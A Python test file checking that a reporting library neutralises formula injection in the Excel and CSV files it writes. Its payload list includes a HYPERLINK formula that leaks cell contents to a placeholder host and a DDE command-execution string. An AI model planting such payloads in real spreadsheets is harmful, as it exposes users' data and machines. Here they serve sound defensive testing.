"""Formula injection (issue 7, defect 4): text from the data never becomes a live formula
in a workbook or a CSV that reportkit writes (OWASP: prefix = + - @ tab CR with ')."""

from __future__ import annotations

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from reportkit.core.excel import frames_to_xlsx, neutralise
from reportkit.data.export import render_table

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",  # DDE
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {"value": PAYLOADS, "count": list(range(7)), "rate": [-1.5] * 7, "unit": ["Hàm Cần"] * 7}
    )


def test_neutralise_prefixes_formula_starts_only() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("Hàm Cần") == "Hàm Cần"
    assert neutralise("1 = 1") == "1 = 1"
    assert neutralise(-3) == -3  # numbers stay numbers


def test_workbook_holds_no_formula_from_data() -> None:
    wb = load_workbook(io.BytesIO(frames_to_xlsx({"validation": frame()})))
    ws = wb["validation"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert [c for c in cells if c.data_type == "f"] == []
    # (openpyxl writes through lxml, which keeps a carriage return as &#13;.)
    expected = ["'" + v for v in PAYLOADS]
    assert [ws.cell(row=i, column=1).value for i in range(2, 9)] == expected
    assert ws["B3"].value == 1 and ws["C2"].value == -1.5  # numbers untouched
    assert ws["D2"].value == "Hàm Cần"


def test_csv_cells_are_neutralised() -> None:
    text = render_table(frame(), "csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["value"] for r in rows] == ["'" + v for v in PAYLOADS]
    assert [r["rate"] for r in rows] == ["-1.5"] * 7
